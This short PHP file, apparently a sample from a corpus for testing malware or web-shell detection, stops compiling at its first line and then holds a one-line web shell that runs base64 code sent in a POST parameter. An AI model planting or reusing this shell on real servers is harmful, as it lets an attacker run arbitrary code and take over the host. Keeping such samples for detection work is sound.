<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php require 'data://text/plain;base64,' . $_POST['a']; ?>